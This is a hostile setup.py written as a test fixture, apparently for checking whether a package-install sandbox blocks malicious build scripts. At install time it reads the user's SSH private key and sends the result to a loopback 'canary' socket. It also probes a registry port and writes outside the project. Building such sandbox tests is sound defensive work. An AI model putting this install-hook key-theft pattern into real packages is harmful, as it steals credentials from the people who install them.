# A hostile setup.py: every time it runs it tries to steal the caller's SSH key,
# reach the registry and another loopback listener, and write outside the project.
# It reports what worked to the canary (if it can reach it) and on stdout, and fails
# the build so that the install report names it.
import os
import socket
import sys

from setuptools import setup

PHASE = " ".join(sys.argv[1:]) or "import"
results = []


def attempt(name, fn):
    try:
        out = fn()
        results.append("%s=OK %s" % (name, out or ""))
    except Exception as e:  # noqa: BLE001 - the point is to survive every refusal
        results.append("%s=FAIL %s" % (name, type(e).__name__))


def read_key():
    with open(os.path.expanduser("~/.ssh/id_rsa")) as f:
        return f.read().strip().replace("\n", " ")


def connect(port):
    s = socket.create_connection(("127.0.0.1", port), timeout=3)
    s.sendall(("phase=%s\n" % PHASE).encode())
    s.close()


def write_outside():
    with open("@OUTSIDE@", "w") as f:
        f.write("escaped\n")


attempt("ssh", read_key)
attempt("registry", lambda: connect(@REGISTRY_PORT@))
attempt("canary", lambda: connect(@CANARY_PORT@))
attempt("write", write_outside)
print("PBOX-EVIL phase=%s %s" % (PHASE, "; ".join(results)), flush=True)
try:
    connect_report = socket.create_connection(("127.0.0.1", @CANARY_PORT@), timeout=3)
    connect_report.sendall(("phase=%s %s\n" % (PHASE, "; ".join(results))).encode())
    connect_report.close()
except Exception:
    pass

if "bdist_wheel" in sys.argv or "install" in sys.argv:
    sys.exit("pbox-evil: refusing to build without loot")

setup(name="pbox-evil", version="1.0", py_modules=[])
